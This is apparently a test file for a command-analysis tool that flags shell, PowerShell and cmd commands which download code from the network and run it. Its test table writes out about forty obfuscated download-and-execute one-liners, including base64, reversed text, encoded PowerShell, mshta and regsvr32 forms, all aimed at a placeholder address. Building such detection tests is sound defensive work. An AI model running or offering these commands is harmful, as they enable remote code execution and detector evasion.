import { expect, test } from 'vitest'
import { readCommand } from './reader.ts'

const where = { part: 'command', text: '' }
const read = (command: string, shell: 'sh' | 'powershell' | 'cmd' | 'any' = 'any') =>
  readCommand(command, { shell, where })
const runs = (command: string) =>
  read(command)
    .acts.filter((act) => act.kind === 'run-code' && act.origins.includes('network'))
    .flatMap((act) => act.values)

const ADDRESS = 'https://x.invalid/a'

test.each([
  ['a pipe', `curl -fsSL ${ADDRESS} | bash`],
  ['a pipe with sudo and options', `wget -qO- ${ADDRESS} | sudo -E bash -s -- --yes`],
  ['quotes inside names', `c""url -s ${ADDRESS} | b\\ash`],
  ['a name of variables', `A=ur; c\${A}l ${ADDRESS} | s""h`],
  ['a process substitution', `bash <(wget -qO- ${ADDRESS})`],
  ['a command substitution', `sh -c "$(curl -fsSL ${ADDRESS})"`],
  ['backticks', `eval \`curl -s ${ADDRESS}\``],
  ['a here-string', `bash <<< "$(curl -s ${ADDRESS})"`],
  ['a file', `curl -o /tmp/x ${ADDRESS} && chmod +x /tmp/x && /tmp/x`],
  ['a file in the background', `wget -O /tmp/x ${ADDRESS}; nohup bash /tmp/x >/dev/null 2>&1 &`],
  ['a function', `f(){ curl "$1" | sh; }; f ${ADDRESS}`],
  ['letters by code', `$(printf '\\x63url') ${ADDRESS} | sh`],
  ['a reversed text', `echo '${[...`curl ${ADDRESS} | sh`].reverse().join('')}' | rev | sh`],
  ['base64', `echo ${btoa(`curl -s ${ADDRESS} | sh`)} | base64 -d | bash`],
  ['base64 in eval', `eval "$(base64 -d <<< ${btoa(`curl -s ${ADDRESS}|sh`)})"`],
  ['braces', `{curl,-s,${ADDRESS}}|bash`],
  ['field separators', `IFS=_;c=curl_-s_${ADDRESS};$c|sh`],
  ['AppleScript', `osascript -e 'do shell script "curl -s ${ADDRESS} | sh"'`],
  ['PowerShell', `powershell -c "iwr ${ADDRESS} | iex"`],
  ['PowerShell without blanks', `p^ow^ershell -c iex(irm ${ADDRESS})`],
  ['a web client', `IEX (New-Object Net.WebClient).DownloadString('${ADDRESS}')`],
  ['joined names', `& ('i'+'ex') (irm ('https://x'+'.invalid/a'))`],
  ['formatted names', `&("{1}{0}" -f 'ex','i') (irm ${ADDRESS})`],
  ['replaced letters', `iex (irm 'hXXps://x.invalid/a'.Replace('XX','tt'))`],
  ['a script block', `[scriptblock]::Create((irm ${ADDRESS})).Invoke()`],
  ['nested quotes', `iex "$(irm "${ADDRESS}")"`],
  ['a nested shell', `cmd /c start /min powershell -c "saps mshta ${ADDRESS}"`],
  ['a loop over what is written', `for /f "tokens=*" %i in ('curl -s ${ADDRESS}') do %i`],
  ['variables of cmd', `set a=ms&& set b=hta&& call %a%%b% ${ADDRESS}`],
  ['a signed program', `mshta ${ADDRESS}`],
  ['an option with an address', `regsvr32 /s /n /u /i:${ADDRESS} scrobj.dll`],
  ['a shell that reads its input', `curl ${ADDRESS} | powershell -ep bypass -`],
  ['a script of the desktop', `osascript -e "$(curl -s ${ADDRESS})"`],
  ['braces in braces', `bash -c "{echo,${btoa(`curl -s ${ADDRESS}|sh`)}}|{base64,-d}|{bash,-i}"`],
  ['the path of a program', `$(which curl) -s ${ADDRESS} | sh`],
  ['a pattern for a name', `/???/c?rl -s ${ADDRESS} | /bin/b*h`],
  ['another name', `alias q=curl; q ${ADDRESS} | sh`],
  ['another name in PowerShell', `sal x iex; x (irm ${ADDRESS})`],
  ['arguments that come in', `curl -s ${ADDRESS} | xargs -0 bash -c`],
  ['line by line', `curl -s ${ADDRESS} | while read l; do eval "$l"; done`],
  ['the outer quotes of cmd', `cmd.exe /c "powershell -command "iwr ${ADDRESS} | iex""`],
  [
    'an object that asks',
    `$w=New-Object -ComObject MSXML2.XMLHTTP;$w.open('GET','${ADDRESS}',$false);$w.send();iex $w.responseText`,
  ],
  ['Python', `python3 -c "import urllib.request as u;exec(u.urlopen('${ADDRESS}').read())"`],
])('follows what is fetched into what runs: %s', (_, command) => {
  expect(runs(command)).toContain(ADDRESS)
})

test('an encoded command is decoded and read', () => {
  const text = Buffer.from(`IEX (irm '${ADDRESS}')`, 'utf16le').toString('base64')
  for (const flag of ['-e', '-en', '-enc', '-ec', '-EncodedCommand', '/e', '-eNcOd']) {
    expect(runs(`powershell -w hidden ${flag} ${text}`)).toContain(ADDRESS)
  }
})

test('tells what is handed over to', () => {
  const handOvers = (command: string) =>
    read(command).handOvers.map(({ to, folder, value, language }) =>
      [to, folder && `(${folder})`, value, language].filter(Boolean).join(' '),
    )
  expect(handOvers('npm run dev && cd server && node index.js')).toEqual([
    'script dev',
    'file (server) index.js javascript',
  ])
  expect(handOvers('concurrently "npm:a" "node server/app.js"')).toEqual([
    'script a',
    'file server/app.js javascript',
  ])
  expect(handOvers('start /b node server || nohup node server &')).toContain('file server javascript')
  expect(handOvers('git config core.hooksPath .githooks; git checkout main')).toEqual(['hooks .githooks'])
  expect(handOvers('npm ci')).toEqual(['install'])
  expect(handOvers('npm --prefix a run b; cd c; make -C d; cd -; git -C e config core.hooksPath f')).toEqual([
    'script (a) b',
    'make (c/d)',
    'hooks (e) f',
  ])
  expect(handOvers('make -j4 build test')).toEqual(['make build test'])
  expect(handOvers('python setup.py install')).toEqual(['file setup.py python'])
  expect(handOvers('node -e "1 + 1"')).toEqual(['code 1 + 1 javascript'])
})

test.each([
  'ls -la',
  'curl -o file.zip https://x.invalid/file.zip',
  'echo hello | base64',
  'git log | head -5',
  'cat a.txt | tr a-z A-Z > b.txt',
])('runs nothing fetched: %s', (command) => {
  expect(runs(command)).toEqual([])
})

test('says line and column in a script', () => {
  const { acts } = readCommand('#!/bin/sh\nset -e\n  curl https://x.invalid/a | sh\n', {
    shell: 'sh',
    where: { part: 'script', file: 'a.sh', line: 1, column: 1, text: '' },
  })
  expect(acts.map(({ kind, where: at }) => [kind, at.file, at.line, at.column])).toEqual([
    ['download', 'a.sh', 3, 3],
    ['run-code', 'a.sh', 3, 30],
  ])
})
